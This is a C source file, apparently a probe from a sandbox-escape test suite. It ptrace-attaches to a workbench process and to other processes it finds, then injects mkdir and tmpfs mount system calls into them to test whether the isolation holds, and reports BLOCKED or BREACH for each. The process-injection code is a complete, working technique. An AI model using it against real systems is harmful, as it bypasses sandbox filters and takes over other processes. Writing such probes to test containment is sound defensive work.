/*
 * ptrace: attach to the workbench (and every other process found by
 * find_targets) and make it call mkdir(MKDIR) and, when that works,
 * mount("none", MOUNTPOINT, "tmpfs"): system calls the target's own filter
 * does not see, made by a process that has no filter.
 *
 *   ptrace WORKBENCH CEILING MKDIR MOUNTPOINT
 *
 * Exit status: 0 when every attempt was blocked, 1 when any succeeded.
 */
#include "escape.h"
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>

static int breaches;

#ifdef __x86_64__
struct saved_word {
	unsigned long addr;
	long word;
};

/* poke_string writes s into the tracee at addr, saving what was there. */
static int poke_string(int pid, unsigned long addr, const char *s, struct saved_word *saved, int *nsaved) {
	size_t len = strlen(s) + 1;
	for (size_t off = 0; off < len; off += sizeof(long)) {
		errno = 0;
		long old = ptrace(PTRACE_PEEKDATA, pid, addr + off, 0);
		if (errno)
			return -1;
		saved[(*nsaved)++] = (struct saved_word){addr + off, old};
		long word = old;
		memcpy(&word, s + off, len - off < sizeof word ? len - off : sizeof word);
		if (ptrace(PTRACE_POKEDATA, pid, addr + off, word) < 0)
			return -1;
	}
	return 0;
}

/* inject runs one system call in the stopped tracee and returns its
 * result (-errno on failure). The tracee must be stopped right after a
 * syscall instruction (interrupted in a system call): that instruction is
 * reused. orig_rax = -1 keeps the kernel from restarting the interrupted
 * call in place of ours; the saved registers bring it back afterwards. */
static long inject(int pid, struct user_regs_struct *saved, long nr, long a0, long a1, long a2, long a3, long a4) {
	struct user_regs_struct r = *saved;
	r.rip = saved->rip - 2;
	r.orig_rax = -1;
	r.rax = nr;
	r.rdi = a0, r.rsi = a1, r.rdx = a2, r.r10 = a3, r.r8 = a4, r.r9 = 0;
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0)
		return -100000 - errno;
	if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0)
		return -100000 - errno;
	int st;
	if (waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st))
		return -100000;
	ptrace(PTRACE_GETREGS, pid, 0, &r);
	return r.rax;
}

/* at_syscall stops the tracee (already seized) where it sits in a system
 * call, retrying a few times when it is caught running user code. */
static int at_syscall(int pid, struct user_regs_struct *regs) {
	for (int try = 0; try < 50; try++) {
		int st;
		if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
			return -1;
		if (waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st))
			return -1;
		if (ptrace(PTRACE_GETREGS, pid, 0, regs) < 0)
			return -1;
		errno = 0;
		long insn = ptrace(PTRACE_PEEKTEXT, pid, regs->rip - 2, 0);
		if ((long)regs->orig_rax >= 0 && !errno && (insn & 0xffff) == 0x050f)
			return 0;
		ptrace(PTRACE_CONT, pid, 0, 0);
		usleep(2000);
	}
	return -1;
}

static void take_over(int pid, const char *why, const char *mkdir_path, const char *mountpoint) {
	struct user_regs_struct regs;
	if (at_syscall(pid, &regs) < 0) {
		printf("RESULT ptrace-inject pid=%d (%s): BREACH attached, but found no system call to reuse\n", pid, why);
		return;
	}
	/* Strings go below the stopped thread's stack pointer (past any red
	 * zone) and what was there is put back afterwards. */
	unsigned long base = (regs.rsp - 1024) & ~7UL;
	struct saved_word saved[160];
	int nsaved = 0;
	unsigned long a_dir = base, a_mnt = base + 256, a_none = base + 512, a_tmpfs = base + 520;
	if (poke_string(pid, a_dir, mkdir_path, saved, &nsaved) ||
	    poke_string(pid, a_mnt, mountpoint, saved, &nsaved) ||
	    poke_string(pid, a_none, "none", saved, &nsaved) ||
	    poke_string(pid, a_tmpfs, "tmpfs", saved, &nsaved)) {
		printf("RESULT ptrace-inject pid=%d (%s): BREACH attached, but could not write its memory: %s\n", pid, why, errname(errno));
	} else {
		long rm = inject(pid, &regs, SYS_mkdir, a_dir, 0755, 0, 0, 0);
		long rmnt = inject(pid, &regs, SYS_mount, a_none, a_mnt, a_tmpfs, 0, 0);
		printf("RESULT ptrace-inject pid=%d (%s): BREACH made it call mkdir(%s) = %ld%s%s, mount(tmpfs on %s) = %ld%s%s\n",
		       pid, why, mkdir_path, rm, rm < 0 ? " " : "", rm < 0 && rm > -4096 ? errname(-rm) : "",
		       mountpoint, rmnt, rmnt < 0 ? " " : "", rmnt < 0 && rmnt > -4096 ? errname(-rmnt) : "");
	}
	/* Put the memory and the registers back. */
	while (nsaved > 0) {
		nsaved--;
		ptrace(PTRACE_POKEDATA, pid, saved[nsaved].addr, saved[nsaved].word);
	}
	ptrace(PTRACE_SETREGS, pid, 0, &regs);
}
#endif

static void attack(int pid, const char *why, const char *mkdir_path, const char *mountpoint) {
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
		int seize = errno;
		/* PTRACE_ATTACH is checked the same way; try it anyway. */
		if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) {
			printf("RESULT ptrace pid=%d (%s): BLOCKED seize=%s attach=%s\n", pid, why, errname(seize), errname(errno));
			return;
		}
		int st;
		waitpid(pid, &st, __WALL);
		breaches++;
		printf("RESULT ptrace pid=%d (%s): BREACH PTRACE_ATTACH worked (seize=%s)\n", pid, why, errname(seize));
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return;
	}
	breaches++;
	printf("RESULT ptrace pid=%d (%s): BREACH PTRACE_SEIZE worked\n", pid, why);
	fflush(stdout);
#ifdef __x86_64__
	take_over(pid, why, mkdir_path, mountpoint);
#endif
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int argc, char **argv) {
	usage_if(argc != 5 || strlen(argv[3]) > 250 || strlen(argv[4]) > 250, "ptrace WORKBENCH CEILING MKDIR MOUNTPOINT (paths under 250 bytes)");
	struct target t[MAX_TARGETS];
	int n = find_targets(argv[1], atoi(argv[2]), t);
	for (int i = 0; i < n; i++) {
		attack(t[i].pid, t[i].why, argv[3], argv[4]);
		fflush(stdout);
	}
	return breaches ? 1 : 0;
}
